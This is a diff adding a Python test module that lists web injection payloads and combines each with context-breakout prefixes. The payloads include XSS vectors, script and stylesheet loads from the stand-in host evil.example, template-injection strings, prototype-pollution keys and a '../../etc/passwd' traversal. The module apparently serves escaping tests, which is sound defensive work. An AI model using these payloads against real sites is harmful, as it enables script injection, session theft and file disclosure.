@@ -1,0 +1,91 @@
+"""Texts that try to become markup, script, address or structure wherever a page prints them."""
+
+from __future__ import annotations
+
+_ACTS = (
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='https://evil.example/p.gif'>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe src=javascript:alert(1)>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<input autofocus onfocus=alert(1)>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<form action=https://evil.example><button>x</button></form>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import 'https://evil.example/x.css';*{display:none}</style>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<plaintext>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<table><td><script>alert(1)</script>",
+    "<select><option><script>alert(1)</script>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<marquee onstart=alert(1)>",
+    "<isindex type=image src=1 onerror=alert(1)>",
+    "<dialog open onclose=alert(1)>",
+    "onmouseover=alert(1) x=",
+    "style=background:url(https://evil.example)",
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "${alert(1)}",
+    "{{constructor.constructor('alert(1)')()}}",
+    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
+    "{{ ''.__class__ }}",
+    "alert(1)//",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "＜script＞alert(1)＜/script＞",
+    "__proto__",
+    "constructor",
+    "toString",
+    "#?c=0&s=failed",
+    "../../etc/passwd",
+    "<!--dialogues-->",
+    "[M3] [M99999] [M1](javascript:alert(1))",
+)
+"""What does the harm once the text has got out of its place."""
+
+_EXITS = (
+    "",
+    '"',
+    "'",
+    "`",
+    '">',
+    "'>",
+    "</script>",
+    "</style>",
+    "</title>",
+    "</textarea>",
+    "-->",
+    "<!--",
+    "]]>",
+    "</svg>",
+    "\u2028",
+    "\x00",
+    "\ud800",
+    "\u202e",
+    "\\",
+    "\r\n",
+)
+"""How the text may get out of its place first."""
+
+PAYLOADS: tuple[str, ...] = tuple(exit_ + act for act in _ACTS for exit_ in _EXITS)
+"""Every exit with every act: over a thousand."""
+
+SHARPEST: tuple[str, ...] = tuple(dict.fromkeys(PAYLOADS[i] for i in range(0, len(PAYLOADS), 17)))
+"""A fixed sample of them with all acts and all exits, for tests that are slow per payload."""
